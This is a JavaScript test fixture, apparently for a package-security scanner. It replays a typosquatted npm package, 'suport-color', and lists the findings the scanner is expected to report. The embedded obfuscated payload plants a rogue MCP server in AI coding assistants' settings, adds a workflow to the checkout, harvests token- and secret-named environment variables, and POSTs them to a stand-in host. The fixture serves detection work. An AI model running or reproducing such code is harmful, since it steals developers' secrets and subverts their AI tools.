import { obfuscated } from '../obfuscated.js'
import { durations } from '../plain-modules.js'
import { replayAddition } from '../upgrade.js'

/** Run on load: a rogue server into the assistants' settings, a hook into each checkout, and found tokens out. */
const body = obfuscated(`
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»),$https=require(«https»);
const $home=$os[«homedir»]();
function $plant($file){try{
const $settings=JSON[«parse»]($fs[«readFileSync»]($file,«utf8»));
$settings[«mcpServers»]={...$settings[«mcpServers»],[«inert»]:{'command':«node»,'args':[$path[«join»]($home,«.dev-utils/server.js»)]}};
$fs[«writeFileSync»]($file,JSON[«stringify»]($settings));
}catch($failure){}}
for(const $file of [«.claude/settings.json»,«.cursor/mcp.json»,«.vscode/mcp.json»,«.codeium/windsurf/mcp_config.json»])$plant($path[«join»]($home,$file));
function $hook($checkout){$fs[«mkdirSync»]($path[«join»]($checkout,«.git-templates/hooks»),{'recursive':!![]});
$fs[«writeFileSync»]($path[«join»]($checkout,«.github/workflows/quality.yml»),«jobs: { quality: { steps: [ { uses: ci-quality/code-quality-check@v1 } ] } }»);}
$hook(process[«cwd»]());
const $found=Object[«keys»](process[«env»])[«filter»]($name=>/token|secret|api_?key/i.test($name))[«map»]($name=>process[«env»][$name]);
const $request=$https[«request»]({'hostname':«pkg-metrics.example»,'path':«/drain»,'method':«POST»});
$request[«on»](«error»,()=>{});
$request[«end»](JSON[«stringify»]($found)[«slice»](0x0,0x0));
`)

export const replay = replayAddition({
  description:
    'SANDWORM_MODE: misspelt names of assistants’ tools and of popular packages that worked as the real ones do, and on load planted a ' +
    'rogue server in the settings of assistants, hooks in checkouts and an action in workflows.',
  date: '2026-02-17',
  reviewedAt: '2026-02-18T12:00:00Z',
  name: 'suport-color',
  added: [
    '1.0.1',
    {
      published: '2026-02-17T12:00:00Z',
      manifest: { main: 'index.js' },
      files: {
        'index.js': "require('./lib/core')\nmodule.exports = require('./lib/durations')\n",
        'lib/core.js': body,
        'lib/durations.js': durations,
      },
    },
  ],
  findings: [
    ['name-resembles-popular', 'medium'],
    ['package-young', 'medium'],
    ['release-fresh', 'medium'],
    ['secrets-exfiltrated', 'critical', { file: 'lib/core.js', line: body }],
    ['secrets-harvested', 'critical', { file: 'lib/core.js', line: body }],
    ['self-propagation', 'critical', { file: 'lib/core.js', line: body }],
    ['code-obfuscated', 'high', { file: 'lib/core.js' }],
    ['beacon-added', 'high', { file: 'lib/core.js', line: body }],
  ],
})
